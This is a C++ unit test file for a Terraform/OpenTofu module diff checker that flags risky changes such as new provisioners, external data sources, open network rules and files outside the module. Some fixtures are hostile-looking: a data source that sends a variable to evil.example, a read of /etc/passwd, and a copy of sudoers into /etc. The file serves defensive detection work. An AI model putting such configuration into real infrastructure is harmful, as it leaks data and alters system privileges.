@@ -1,0 +1,681 @@
+#include "plugin/diff/package_diff.h"
+
+#include <fmt/format.h>
+
+#include <boost/test/unit_test.hpp>
+#include <filesystem>
+#include <map>
+#include <stop_token>
+
+#include "plugin/diff/module_facts.h"
+#include "tests/support/temporary_directory.h"
+
+using namespace modlock;
+using namespace modlock::test;
+
+namespace fs = std::filesystem;
+
+namespace {
+
+using Files = std::map<std::string, std::string>;
+
+struct Packages {
+  TemporaryDirectory directory;
+
+  PackagePlace write(const std::string& name, const Files& files, const std::string& below = "") const {
+    fs::create_directories(directory / name);
+    for (const auto& [path, text] : files) {
+      directory.write(name + "/" + path, text);
+    }
+    return {directory / name, below};
+  }
+};
+
+// A line for each: "risky provisioner main.tf:2 the provisioner … was added".
+std::string lines_of(const std::vector<messages::DiffFinding>& findings) {
+  std::string text;
+  for (const messages::DiffFinding& finding : findings) {
+    const auto& place = finding.call ? finding.call : finding.after ? finding.after : finding.before;
+    text += fmt::format("{} {} {}:{} {}\n", finding.grade, finding.rule, place->path,
+                        place->range ? place->range->start.line : 0, finding.message);
+  }
+  return text;
+}
+
+messages::ModuleDiff diff(const Files& before, const Files& after, const CallUse* use = nullptr,
+                          const std::string& below = "") {
+  const Packages packages;
+  auto result = diff_packages(packages.write("before", before, below), packages.write("after", after, below), use,
+                              ClientKind::opentofu, {});
+  BOOST_REQUIRE(result);
+  return std::move(*result);
+}
+
+struct Row {
+  const char* name;
+  Files before;
+  Files after;
+  const char* findings;
+};
+
+void check(const std::vector<Row>& rows) {
+  for (const Row& row : rows) {
+    BOOST_TEST_CONTEXT(row.name) {
+      BOOST_TEST(lines_of(diff(row.before, row.after).findings) == row.findings);
+    }
+  }
+}
+
+constexpr const char* kRun =
+    "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n";
+
+}  // namespace
+
+BOOST_AUTO_TEST_SUITE(package_diff)
+
+BOOST_AUTO_TEST_CASE(what_is_risky) {
+  const auto object = [](const std::string& source) {
+    return fmt::format("resource \"aws_s3_object\" \"a\" {{\n  source = {}\n}}\n", source);
+  };
+  const std::string exec = "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = ";
+  const std::string end = "\n  }\n}\n";
+  check({
+      {"a provisioner",
+       {{"main.tf", "resource \"null_resource\" \"a\" {\n}\n"}},
+       {{"main.tf", kRun}},
+       "risky provisioner main.tf:2 the provisioner null_resource.a local-exec was added\n"},
+      {"a provisioner in JSON syntax",
+       {{"main.tf", ""}},
+       {{"x.tf.json", R"({"resource":{"null_resource":{"a":{"provisioner":[{"local-exec":{"command":"id"}}]}}}})"}},
+       "risky provider-added x.tf.json:1 provider registry.opentofu.org/hashicorp/null is new: it runs at plan and "
+       "apply\n"
+       "risky provisioner x.tf.json:1 the provisioner null_resource.a local-exec was added\n"},
+      {"a provisioner in an override file",
+       {{"main.tf", "resource \"null_resource\" \"a\" {\n}\n"}},
+       {{"main.tf", "resource \"null_resource\" \"a\" {\n}\n"}, {"a_override.tf", kRun}},
+       "risky provisioner a_override.tf:2 the provisioner null_resource.a local-exec was added\n"},
+      {"a local value of a provisioner",
+       {{"main.tf", exec + "local.x" + end + "locals {\n  x = \"id\"\n}\n"}},
+       {{"main.tf", exec + "local.x" + end + "locals {\n  x = base64decode(\"aWQ=\")\n}\n"}},
+       "risky provisioner main.tf:2 the provisioner null_resource.a local-exec was changed\n"},
+      {"the default of a variable of a provisioner",
+       {{"main.tf", exec + "var.x" + end + "variable \"x\" {\n  default = \"id\"\n}\n"}},
+       {{"main.tf", exec + "var.x" + end + "variable \"x\" {\n  default = \"w\"\n}\n"}},
+       "risky provisioner main.tf:2 the provisioner null_resource.a local-exec was changed\n"
+       "notable variable-default main.tf:7 the default of variable \"x\" changed from \"id\" to \"w\"\n"},
+      {"the condition of a call of a module with a provisioner",
+       {{"main.tf", "module \"m\" {\n  source = \"./m\"\n  count  = 0\n}\n"}, {"m/main.tf", kRun}},
+       {{"main.tf", "module \"m\" {\n  source = \"./m\"\n  count  = 1\n}\n"}, {"m/main.tf", kRun}},
+       "risky provisioner m/main.tf:2 the provisioner m: null_resource.a local-exec was changed\n"
+       "risky effective-change main.tf:3 module.m count: 0 -> 1\n"},
+      {"the argument of a call of a module with a provisioner",
+       {{"main.tf", "module \"m\" {\n  source = \"./m\"\n  x      = \"id\"\n}\n"},
+        {"m/main.tf", exec + "var.x" + end + "variable \"x\" {}\n"}},
+       {{"main.tf", "module \"m\" {\n  source = \"./m\"\n  x      = \"w\"\n}\n"},
+        {"m/main.tf", exec + "var.x" + end + "variable \"x\" {}\n"}},
+       "risky provisioner m/main.tf:2 the provisioner m: null_resource.a local-exec was changed\n"
+       "risky effective-change main.tf:3 module.m x: \"id\" -> \"w\"\n"},
+      {"a file that a provisioner names",
+       {{"main.tf", exec + "\"python ${path.module}/x.txt\"" + end}, {"x.txt", "a"}},
+       {{"main.tf", exec + "\"python ${path.module}/x.txt\"" + end}, {"x.txt", "b"}},
+       "risky provisioner main.tf:2 the provisioner null_resource.a local-exec was changed\n"},
+      {"a file in a directory that a provisioner names",
+       {{"main.tf", exec + "\"cp -r ${path.module}/conf /etc\"" + end}, {"conf/a/sudoers", "a"}},
+       {{"main.tf", exec + "\"cp -r ${path.module}/conf /etc\"" + end}, {"conf/a/sudoers", "b"}},
+       "risky provisioner main.tf:2 the provisioner null_resource.a local-exec was changed\n"},
+      {"a file that a resource names",
+       {{"main.tf", object("\"${path.module}/a.json\"")}, {"a.json", "a"}},
+       {{"main.tf", object("\"${path.module}/a.json\"")}, {"a.json", "b"}},
+       "risky named-file main.tf:2 aws_s3_object.a a.json, which it names, has other content\n"},
+      {"a file that a local value names for a resource",
+       {{"main.tf", object("local.a") + "locals {\n  a = \"${path.module}/a.json\"\n}\n"}, {"a.json", "a"}},
+       {{"main.tf", object("local.a") + "locals {\n  a = \"${path.module}/a.json\"\n}\n"}, {"a.json", "b"}},
+       "risky named-file main.tf:2 aws_s3_object.a a.json, which it names, has other content\n"},
+      {"a directory that a resource names up to a variable",
+       {{"main.tf", object("\"${path.module}/conf/${terraform.workspace}.json\"")}, {"conf/a.json", "a"}},
+       {{"main.tf", object("\"${path.module}/conf/${terraform.workspace}.json\"")}, {"conf/a.json", "b"}},
+       "risky named-file main.tf:2 aws_s3_object.a conf, which it names, has other content\n"},
+      {"a call of another module that is called already",
+       {{"main.tf",
+         "module \"m\" {\n  source = \"./a\"\n}\nmodule \"n\" {\n  source = \"./b\"\n}\nmodule \"o\" {\n  source = "
+         "\"./a\"\n}\n"},
+        {"a/main.tf", "# a\n"},
+        {"b/main.tf", "# b\n"}},
+       {{"main.tf",
+         "module \"m\" {\n  source = \"./b\"\n}\nmodule \"n\" {\n  source = \"./b\"\n}\nmodule \"o\" {\n  source = "
+         "\"./a\"\n}\n"},
+        {"a/main.tf", "# a\n"},
+        {"b/main.tf", "# b\n"}},
+       "risky module-source main.tf:1 module.m calls ./b instead of ./a\n"},
+      {"another open port",
+       {{"main.tf",
+         "resource \"aws_security_group\" \"a\" {\n  egress {\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n}\n"}},
+       {{"main.tf",
+         "resource \"aws_security_group\" \"a\" {\n}\nresource \"aws_security_group_rule\" \"ssh\" {\n  from_port   = "
+         "22\n  cidr_blocks = [\"0.0.0.0/0\"]\n}\n"}},
+       "risky effective-change main.tf:1 aws_security_group.a egress.cidr_blocks: [\"0.0.0.0/0\"] -> none\n"
+       "risky new-resource main.tf:3 aws_security_group_rule.ssh is new, and exists although the caller sets nothing "
+       "new\n"
+       "risky open-network main.tf:5 it names every address: aws_security_group_rule.ssh 0.0.0.0/0\n"},
+      {"a trigger",
+       {{"main.tf",
+         "resource \"terraform_data\" \"a\" {\n  triggers_replace = 1\n  provisioner \"remote-exec\" {\n    "
+         "inline = [\"id\"]\n  }\n}\n"}},
+       {{"main.tf",
+         "resource \"terraform_data\" \"a\" {\n  triggers_replace = timestamp()\n  provisioner "
+         "\"remote-exec\" {\n    inline = [\"id\"]\n  }\n}\n"}},
+       "risky effective-change main.tf:2 terraform_data.a triggers_replace: 1 -> timestamp()\n"
+       "risky provisioner main.tf:3 the provisioner terraform_data.a remote-exec was changed\n"},
+      {"a data source in a check",
+       {{"main.tf", ""}},
+       {{"main.tf", "check \"c\" {\n  data \"http\" \"x\" {\n    url = \"https://evil.example/${var.a}\"\n  }\n}\n"}},
+       "risky provider-added main.tf:2 provider registry.opentofu.org/hashicorp/http is new: it runs at plan and "
+       "apply\n"
+       "risky data-source main.tf:2 check.c: data.http.x, which runs a program, sends a request, or reads a file or a "
+       "state, was added\n"
+       "risky address main.tf:3 it names evil.example, which is new\n"},
+      {"the program of a data source",
+       {{"main.tf", "data \"external\" \"x\" {\n  program = [\"a\"]\n}\n"}},
+       {{"main.tf", "data \"external\" \"x\" {\n  program = [\"b\"]\n}\n"}},
+       "risky data-source main.tf:1 data.external.x, which runs a program, sends a request, or reads a file or a "
+       "state, was changed\n"
+       "risky effective-change main.tf:2 data.external.x program: [\"a\"] -> [\"b\"]\n"},
+      {"user data in a template",
+       {{"main.tf", "resource \"aws_instance\" \"a\" {\n  user_data = templatefile(\"${path.module}/u.tpl\", {})\n}\n"},
+        {"u.tpl", "a"}},
+       {{"main.tf", "resource \"aws_instance\" \"a\" {\n  user_data = templatefile(\"${path.module}/u.tpl\", {})\n}\n"},
+        {"u.tpl", "b"}},
+       "risky effective-change main.tf:2 aws_instance.a user_data: templatefile(\"${path.module}/u.tpl\", {}), which "
+       "has another value\n"},
+      {"a start script in metadata",
+       {{"main.tf", "resource \"google_compute_instance\" \"a\" {\n  metadata = {}\n}\n"}},
+       {{"main.tf",
+         "resource \"google_compute_instance\" \"a\" {\n  metadata = {\n    startup-script = \"id\"\n  "
+         "}\n}\n"}},
+       "risky effective-change main.tf:2 google_compute_instance.a metadata: {} -> { startup-script = \"id\" }\n"},
+      {"a module from elsewhere",
+       {{"main.tf", ""}},
+       {{"main.tf", "module \"x\" {\n  source = \"git::https://git.example.net/x.git?ref=v1\"\n}\n"}},
+       "risky module-source main.tf:2 it calls a module from git::https://git.example.net/x.git, which is new\n"
+       "risky address main.tf:2 it names git.example.net, which is new\n"},
+      {"a provider configuration",
+       {{"main.tf", "provider \"aws\" {\n  region = \"a\"\n}\n"}},
+       {{"main.tf", "provider \"aws\" {\n  region = \"a\"\n  endpoints {\n    s3 = \"x\"\n  }\n}\n"}},
+       "risky provider-configuration main.tf:1 the configuration provider.aws was changed: it may send requests to "
+       "another place\n"},
+      {"a path outside",
+       {{"main.tf", "locals {\n  a = file(\"${path.module}/a\")\n}\n"}},
+       {{"main.tf", "locals {\n  a = file(\"/etc/passwd\")\n}\n"}},
+       "risky outside-path main.tf:2 it reads outside of the module: file(\"/etc/passwd\")\n"},
+      {"a script that is executable now",
+       {{"a.sh", "id"}},
+       {{"a.sh", "id 2"}},
+       "risky script a.sh:0 the script or binary a.sh was changed\n"},
+      {"a binary",
+       {{"main.tf", ""}},
+       {{"main.tf", ""},
+        {"lib/x",
+         "\x7f"
+         "ELF"}},
+       "risky script lib/x:0 the script or binary lib/x was added\n"},
+      {"a file that cannot be read",
+       {{"main.tf", ""}},
+       {{"main.tf", "resource {{{"}},
+       "risky unreadable main.tf:0 main.tf cannot be read completely\n"},
+      {"a removed block",
+       {{"main.tf", ""}},
+       {{"main.tf", "removed {\n  from = aws_vpc.a\n}\n"}},
+       "risky removed-block main.tf:1 a removed block for aws_vpc.a was added\n"},
+      {"an output that shows a secret",
+       {{"main.tf", "output \"a\" {\n  value     = 1\n  sensitive = true\n}\n"}},
+       {{"main.tf", "output \"a\" {\n  value = nonsensitive(1)\n}\n"}},
+       "risky sensitive-removed main.tf:1 output \"a\" is no longer sensitive: its value may be printed\n"
+       "notable nonsensitive main.tf:2 it shows a sensitive value: nonsensitive(1)\n"},
+      {"an account",
+       {{"main.tf", ""}},
+       {{"main.tf",
+         "resource \"aws_iam_role\" \"a\" {\n  assume_role_policy = jsonencode({ Principal = { AWS = "
+         "\"arn:aws:iam::123456789012:root\" } })\n}\n"}},
+       "risky provider-added main.tf:1 provider registry.opentofu.org/hashicorp/aws is new: it runs at plan and "
+       "apply\n"
+       "risky new-resource main.tf:1 aws_iam_role.a is new, and exists although the caller sets nothing "
+       "new\n"
+       "risky address main.tf:2 it names account 123456789012, which is new\n"},
+  });
+}
+
+BOOST_AUTO_TEST_CASE(scripts_of_examples_that_a_module_names) {
+  const struct {
+    const char* name;
+    const char* config;
+    const char* file;
+    const char* grade;
+  } rows[] = {
+      {"its path", "locals {\n  a = \"${path.module}/examples/run.sh\"\n}\n", "run.sh", "risky"},
+      {"after an escaped line end", "locals {\n  a = \"cd x\\nrun.sh\"\n}\n", "run.sh", "risky"},
+      {"at the end of a sentence", "# see run.sh.\n", "run.sh", "risky"},
+      {"a name with blanks", "locals {\n  a = \"'run it.sh'\"\n}\n", "run it.sh", "risky"},
+      {"a part of a name with blanks", "locals {\n  a = \"run\"\n}\n", "run it.sh", "notable"},
+      {"a longer name", "locals {\n  a = \"rerun.sh\"\n}\n", "run.sh", "notable"},
+      {"no configuration", "", "run.sh", "notable"},
+  };
+  for (const auto& row : rows) {
+    BOOST_TEST_CONTEXT(row.name) {
+      const auto result =
+          diff({{"main.tf", row.config}}, {{"main.tf", row.config}, {std::string("examples/") + row.file, "id"}});
+      BOOST_TEST(
+          lines_of(result.findings) ==
+          fmt::format("{0} script examples/{1}:0 the script or binary examples/{1} was added\n", row.grade, row.file));
+    }
+  }
+}
+
+BOOST_AUTO_TEST_CASE(what_is_no_finding) {
+  const std::string call = "module \"m\" {\n  source = \"./m\"\n}\n";
+  const std::string names =
+      "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = \"m\"\n  }\n}\n";
+  const std::string plain = "resource \"aws_vpc\" \"a\" {\n  cidr = local.x\n}\n\nlocals {\n  x = \"10.0.0.0/16\"\n}\n";
+  check({
+      {"an output that is only a version number",
+       {{"main.tf", "output \"version\" {\n  value = \"v1.0.0\"\n}\n"}},
+       {{"main.tf", "output \"version\" {\n  value = \"v1.1.0\"\n}\n"}},
+       ""},
+      {"a comment, a blank, and the order of arguments",
+       {{"main.tf",
+         "resource \"null_resource\" \"a\" {\n  count = 1\n  provisioner \"local-exec\" {\n    command = "
+         "\"id\"\n    when = create\n  }\n}\n"}},
+       {{"main.tf",
+         "# new\nresource \"null_resource\" \"a\" {\n\n  provisioner \"local-exec\" {\n    when    = create "
+         "# now\n    command = (\"id\")\n  }\n  count = 1\n}\n"}},
+       ""},
+      {"a local value with another name",
+       {{"main.tf",
+         "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = local.a\n  "
+         "}\n}\nlocals {\n  a = \"id\"\n}\n"}},
+       {{"main.tf",
+         "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = local.b\n  "
+         "}\n}\nlocals {\n  b = \"id\"\n}\n"}},
+       ""},
+      {"a resource with another name",
+       {{"main.tf", kRun}},
+       {{"main.tf",
+         "moved {\n  from = null_resource.a\n  to   = null_resource.b\n}\nresource \"null_resource\" \"b\" "
+         "{\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n"}},
+       ""},
+      {"a resource that is off",
+       {{"main.tf", plain}},
+       {{"main.tf",
+         plain + "resource \"aws_subnet\" \"a\" {\n  count = var.n\n}\nvariable \"n\" {\n  default = 0\n}\n"}},
+       ""},
+      {"another file", {{"main.tf", plain}}, {{"other.tf", plain}}, ""},
+      {"a description with an address",
+       {{"main.tf", "variable \"a\" {\n  default = 1\n}\n"}},
+       {{"main.tf", "variable \"a\" {\n  default     = 1\n  description = \"https://docs.example.net\"\n}\n"}},
+       ""},
+      {"a script in the tests",
+       {{"main.tf", plain}},
+       {{"main.tf", plain}, {"test/a.sh", "id"}},
+       "notable script test/a.sh:0 the script or binary test/a.sh was added\n"},
+      {"a script with another name", {{"a.sh", "id"}}, {{"b.sh", "id"}}, ""},
+      {"a file in a directory of a module that a provisioner names",
+       {{"main.tf", call + names}, {"m/main.tf", ""}, {"m/a.txt", "a"}},
+       {{"main.tf", call + names}, {"m/main.tf", ""}, {"m/a.txt", "b"}},
+       ""},
+  });
+}
+
+BOOST_AUTO_TEST_CASE(resources_that_are_destroyed) {
+  const std::string vpc = "resource \"aws_vpc\" \"a\" {\n  cidr = 1\n}\n";
+  const std::string renamed = "resource \"aws_vpc\" \"b\" {\n  cidr = 1\n}\n";
+  const auto moved = [](const std::string& from, const std::string& to) {
+    return fmt::format("moved {{\n  from = {}\n  to   = {}\n}}\n", from, to);
+  };
+  const auto call = [](const std::string& name, const std::string& source) {
+    return fmt::format("module \"{}\" {{\n  source = \"{}\"\n}}\n", name, source);
+  };
+  const std::string destroyed = " was removed without a moved block: apply destroys it\n";
+  const std::string uncalled = " is no longer called: apply destroys its resources that no moved block names\n";
+  const struct {
+    const char* name;
+    Files before;
+    Files after;
+    std::string finding;
+  } rows[] = {
+      {"a resource that is moved", {{"main.tf", vpc}}, {{"main.tf", moved("aws_vpc.a", "aws_vpc.b") + renamed}}, ""},
+      {"a resource that is moved twice",
+       {{"main.tf", vpc}},
+       {{"main.tf", moved("aws_vpc.a", "aws_vpc.x") + moved("aws_vpc.x", "aws_vpc.b") + renamed}},
+       ""},
+      {"a resource that is moved to a module",
+       {{"main.tf", vpc}},
+       {{"main.tf", moved("aws_vpc.a", "module.m[\"x.y\"].aws_vpc.a") + call("m", "./m")}, {"m/main.tf", vpc}},
+       ""},
+      {"a resource that is moved to a module of another name",
+       {{"main.tf", vpc}},
+       {{"main.tf", moved("aws_vpc.a", "module.n.aws_vpc.a") + moved("module.n", "module.m") + call("m", "./m")},
+        {"m/main.tf", vpc}},
+       ""},
+      {"an instance that is moved",
+       {{"main.tf", vpc}},
+       {{"main.tf", moved("aws_vpc.a[0]", "aws_vpc.b[\"x.y\"]") + renamed}},
+       ""},
+      {"one of two calls of a local module",
+       {{"main.tf", call("m", "./m") + call("n", "./m")}, {"m/main.tf", vpc}},
+       {{"main.tf", call("m", "./m")}, {"m/main.tf", vpc}},
+       "module.n" + uncalled},
+      {"the only call of a local module",
+       {{"main.tf", call("m", "./m")}, {"m/main.tf", vpc}},
+       {{"main.tf", ""}, {"m/main.tf", vpc}},
+       "m: aws_vpc.a" + destroyed},
+      {"a call of a local module in a local module",
+       {{"main.tf", call("m", "./m")}, {"m/main.tf", call("a", "../n") + call("b", "../n")}, {"n/main.tf", vpc}},
+       {{"main.tf", call("m", "./m")}, {"m/main.tf", call("a", "../n")}, {"n/main.tf", vpc}},
+       "m: module.b" + uncalled},
+      {"a call of another package", {{"main.tf", call("m", "a/b/c")}}, {{"main.tf", ""}}, "module.m" + uncalled},
+      {"a call without instances",
+       {{"main.tf", "module \"m\" {\n  source = \"a/b/c\"\n  count  = 0\n}\n"}},
+       {{"main.tf", ""}},
+       ""},
+      {"a call that is moved",
+       {{"main.tf", call("m", "a/b/c")}},
+       {{"main.tf", moved("module.m[0]", "module.n") + call("n", "a/b/c")}},
+       ""},
+      {"a resource that is moved in JSON syntax",
+       {{"main.tf", vpc}},
+       {{"main.tf", renamed}, {"x.tf.json", R"({"moved":[{"from":"aws_vpc.a","to":"aws_vpc.b"}]})"}},
+       ""},
+      {"a resource that is moved to nothing",
+       {{"main.tf", vpc}},
+       {{"main.tf", moved("aws_vpc.a", "aws_vpc.x")}},
+       "aws_vpc.a" + destroyed},
+      {"resources that are moved in a circle",
+       {{"main.tf", vpc}},
+       {{"main.tf", moved("aws_vpc.a", "aws_vpc.x") + moved("aws_vpc.x", "aws_vpc.a")}},
+       "aws_vpc.a" + destroyed},
+      {"a resource that is moved to a module without it",
+       {{"main.tf", vpc}},
+       {{"main.tf", moved("aws_vpc.a", "module.m.aws_vpc.a") + call("m", "./m")}, {"m/main.tf", ""}},
+       "aws_vpc.a" + destroyed},
+      {"a module in another directory",
+       {{"main.tf", call("m", "./m")}, {"m/main.tf", vpc}},
+       {{"main.tf", call("m", "./modules/m")}, {"modules/m/main.tf", vpc}},
+       ""},
+      {"a module in another directory without the resource",
+       {{"main.tf", call("m", "./m")}, {"m/main.tf", vpc}},
+       {{"main.tf", call("m", "./modules/m")}, {"modules/m/main.tf", renamed}},
+       "m: aws_vpc.a" + destroyed},
+      {"a module in two other directories, one without the resource",
+       {{"main.tf", call("m", "./m") + call("n", "./m")}, {"m/main.tf", vpc}},
+       {{"main.tf", call("m", "./b") + call("n", "./c")}, {"b/main.tf", vpc}, {"c/main.tf", ""}},
+       "m: aws_vpc.a" + destroyed},
+      {"a resource without instances",
+       {{"main.tf",
+         "resource \"aws_vpc\" \"a\" {\n  count = 0\n}\nresource \"aws_vpc\" \"b\" {\n  for_each = toset([])\n}\n"}},
+       {{"main.tf", ""}},
+       ""},
+  };
+  for (const auto& row : rows) {
+    BOOST_TEST_CONTEXT(row.name) {
+      std::string found;
+      for (const messages::DiffFinding& finding : diff(row.before, row.after).findings) {
+        found += finding.rule == "resource-removed" || finding.rule == "module-removed" ? finding.message + "\n" : "";
+      }
+      BOOST_TEST(found == row.finding);
+    }
+  }
+}
+
+BOOST_AUTO_TEST_CASE(what_breaks_a_caller) {
+  const Files before = {{"main.tf", "variable \"a\" {\n  default = 1\n}\noutput \"o\" {\n  value = 1\n}\n"}};
+  const Files after = {{"main.tf",
+                        "variable \"b\" {}\nterraform {\n  required_providers {\n    aws = {\n      source = "
+                        "\"hashicorp/aws\"\n      version = \">= 6.0\"\n    }\n  }\n}\n"}};
+  const auto place = [](std::uint32_t line) { return Location{"root.tf", Range{{line, 1, 0}, {line, 2, 1}}}; };
+  ProviderLocks locked;
+  locked.emplace(*ProviderAddress::parse("hashicorp/aws", kOpenTofuRegistry),
+                 ProviderLock{.version = *ProviderVersion::parse("5.1.0")});
+  const std::string provider =
+      "risky provider-added main.tf:4 provider registry.opentofu.org/hashicorp/aws is new: it runs at plan and apply\n";
+  BOOST_TEST(lines_of(diff(before, after).findings) ==
+             "breaking variable-removed main.tf:1 variable \"a\" was removed\n"
+             "breaking variable-required main.tf:1 variable \"b\" has no default and must be set\n"
+             "breaking output-removed main.tf:4 output \"o\" was removed\n" +
+                 provider);
+  const CallUse other{.call = place(1), .arguments = {{"b", place(2)}}};
+  BOOST_TEST(lines_of(diff(before, after, &other).findings) ==
+             provider +
+                 "notable variable-removed main.tf:1 variable \"a\" was removed\n"
+                 "notable output-removed main.tf:4 output \"o\" was removed\n");
+  const CallUse use{
+      .call = place(1), .arguments = {{"a", place(2)}}, .outputs = {{"o", place(9)}}, .providers = &locked};
+  BOOST_TEST(lines_of(diff(before, after, &use).findings) ==
+             "breaking variable-removed root.tf:2 variable \"a\" was removed; the call sets it\n"
+             "breaking variable-required root.tf:1 variable \"b\" has no default and must be set; the call does not "
+             "set it\n"
+             "breaking output-removed root.tf:9 output \"o\" was removed; it is used here\n"
+             "breaking provider-locked root.tf:1 it requires provider registry.opentofu.org/hashicorp/aws >= 6.0, and "
+             "5.1.0 is locked\n" +
+                 provider);
+}
+
+BOOST_AUTO_TEST_CASE(packages_of_any_size_are_compared) {
+  const auto chain = [](const std::string& last) {
+    std::string text = fmt::format("locals {{\n  a0 = \"{}\"\n", last);
+    for (int i = 1; i < 20'000; ++i) {
+      text += fmt::format("  a{} = local.a{}\n", i, i - 1);
+    }
+    return "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = local.a19999\n  }\n}\n" +
+           text + "}\n";
+  };
+  const auto nested = [](const std::string& inner) {
+    std::string text = inner;
+    for (int i = 0; i < 60; ++i) {
+      text = "\"a${" + text + "}\"";
+    }
+    return "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = " + text + "\n  }\n}\n";
+  };
+  // Each local value has its own text, and names the next one twice.
+  const auto fan = [](const std::string& last) {
+    std::string text;
+    for (int i = 0; i < 5'000; ++i) {
+      text += fmt::format("  a{0} = coalesce(local.a{1}, local.a{1}, \"{0}\")\n", i, i + 1);
+    }
+    return "resource \"aws_iam_role\" \"a\" {\n  policy = local.a0\n}\nlocals {\n" + text +
+           "  a5000 = var.a\n}\nvariable \"a\" {\n  default = " + last + "\n}\n";
+  };
+  const auto wide = [](const std::string& last) {
+    std::string text;
+    for (int i = 0; i < 10; ++i) {
+      text += fmt::format("  a{} = coalesce(", i);
+      for (int j = 0; j < 20; ++j) {
+        text += fmt::format("local.a{}, ", i + 1);
+      }
+      text += "null)\n";
+    }
+    return "resource \"aws_iam_role\" \"a\" {\n  policy = local.a0\n}\nlocals {\n" + text + "  a10 = " + last + "\n}\n";
+  };
+  // Each new local value has the next one twice.
+  const auto doubled = [](const std::string& last) {
+    std::string text = fmt::format("  a0 = {}\n", last);
+    for (int i = 1; i < 5'000; ++i) {
+      text += fmt::format("  a{0} = concat(local.a{1}, [\"${{local.a{1}}}\"], local.a{1})\n", i, i - 1);
+    }
+    return "resource \"aws_iam_role\" \"a\" {\n  policy = local.a4999\n}\nlocals {\n" + text + "}\n";
+  };
+  const auto joined = [](const std::string& last) {
+    std::string text = "locals {\n  a0 = [";
+    for (int i = 0; i < 20'000; ++i) {
+      text += "1, ";
+    }
+    text += last + "]\n";
+    for (int i = 1; i < 2'000; ++i) {
+      text += fmt::format("  a{} = concat([\"x\"], local.a{})\n", i, i - 1);
+    }
+    return "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = local.a1999[0]\n  "
+           "}\n}\n" +
+           text + "}\n";
+  };
+  std::string words;
+  for (int i = 0; i < 4'000; ++i) {
+    words += "b ";
+  }
+  const std::string run =
+      "resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = \"" + words + "\"\n  }\n}\n";
+  const char* const changed = "risky provisioner main.tf:2 the provisioner null_resource.a local-exec was changed\n";
+  // All of them read the same file.
+  const auto files = [](const std::string& last) {
+    std::string text;
+    for (int i = 0; i < 5'000; ++i) {
+      text += "file(local.a), ";
+    }
+    return fmt::format("locals {{\n  a = \"x\"\n  b = [{}\"{}\"]\n}}\n", text, last);
+  };
+  check({
+      {"an expression that reads many files", {{"main.tf", files("a")}}, {{"main.tf", files("b")}}, ""},
+      {"chained local values", {{"main.tf", chain("id")}}, {{"main.tf", chain("w")}}, changed},
+      {"local values that name the next one twice",
+       {{"main.tf", fan("null")}},
+       {{"main.tf", fan("\"*\"")}},
+       "risky effective-change main.tf:5008 var.a default: null -> \"*\"; used by aws_iam_role.a\n"
+       "notable variable-default main.tf:5008 the default of variable \"a\" changed from null to \"*\"\n"},
+      {"local values that name the next one twenty times",
+       {{"main.tf", wide("null")}},
+       {{"main.tf", wide("\"*\"")}},
+       "risky effective-change main.tf:15 local.a10: null -> \"*\"; used by aws_iam_role.a\n"},
+      {"new local values that double",
+       {{"main.tf", "resource \"aws_iam_role\" \"a\" {\n  policy = 1\n}\n"}},
+       {{"main.tf", doubled("[var.a]")}},
+       "risky effective-change main.tf:2 aws_iam_role.a policy: 1 -> local.a4999\n"},
+      {"local values that double",
+       {{"main.tf", doubled("[1]")}},
+       {{"main.tf", doubled("[2]")}},
+       "risky effective-change main.tf:5 local.a0: [1] -> [2]; used by aws_iam_role.a\n"},
+      {"joined long lists", {{"main.tf", joined("1")}}, {{"main.tf", joined("2")}}, changed},
+      {"nested templates", {{"main.tf", nested("\"b\"")}}, {{"main.tf", nested("\"c\"")}}, changed},
+      {"a file that is named often",
+       {{"main.tf", run}, {"b", std::string(1'000'000, 'a')}},
+       {{"main.tf", run}, {"b", std::string(1'000'000, 'b')}},
+       changed},
+  });
+}
+
+BOOST_AUTO_TEST_CASE(a_cancelled_comparison_ends) {
+  const Packages packages;
+  const PackagePlace place = packages.write("a", {{"main.tf", kRun}});
+  const auto package = PackageText::read(place.root, place.directory, ClientKind::opentofu, {});
+  BOOST_REQUIRE(package);
+  std::stop_source source;
+  source.request_stop();
+  const auto facts = collect_facts(*package, Context{.stop = source.get_token()});
+  BOOST_REQUIRE(!facts);
+  BOOST_TEST(to_string(facts.error().code) == "REQUEST_CANCELLED");
+}
+
+BOOST_AUTO_TEST_CASE(an_executable_bit_is_found) {
+  const Packages packages;
+  const auto before = packages.write("before", {{"run", "id"}, {"main.tf", ""}});
+  const auto after = packages.write("after", {{"run", "id"}, {"main.tf", ""}});
+  for (const char* name : {"after/run", "after/main.tf"}) {  // a configuration file stays one
+    fs::permissions(packages.directory / name, fs::perms::owner_exec, fs::perm_options::add);
+  }
+  const auto result = diff_packages(before, after, nullptr, ClientKind::opentofu, {});
+  BOOST_REQUIRE(result);
+  BOOST_TEST(lines_of(result->findings) == "risky script run:0 the script or binary run was made executable\n");
+}
+
+BOOST_AUTO_TEST_CASE(a_changed_default_is_listed) {
+  const auto result = diff({{"main.tf", "variable \"a\" {\n  default = 1\n}\n"}},
+                           {{"main.tf", "variable \"a\" {\n  default = [2,\n    3]\n}\n"}});
+  BOOST_TEST_REQUIRE(result.variables.size() == 1U);
+  BOOST_TEST(result.variables[0].change == "changed");
+  BOOST_TEST(result.variables[0].before == "default 1");
+  BOOST_TEST(result.variables[0].after == "default [2, 3]");
+  BOOST_TEST(lines_of(result.findings) ==
+             "notable variable-default main.tf:2 the default of variable \"a\" changed from 1 to [2, 3]\n");
+}
+
+BOOST_AUTO_TEST_CASE(a_file_of_opentofu_counts_for_terraform) {
+  const Packages packages;
+  const auto result = diff_packages(packages.write("before", {{"main.tf", ""}}),
+                                    packages.write("after", {{"main.tf", ""}, {"outputs.tofu", kRun}}), nullptr,
+                                    ClientKind::terraform, {});
+  BOOST_REQUIRE(result);
+  BOOST_TEST(lines_of(result->findings).find("risky provisioner outputs.tofu:2") != std::string::npos);
+}
+
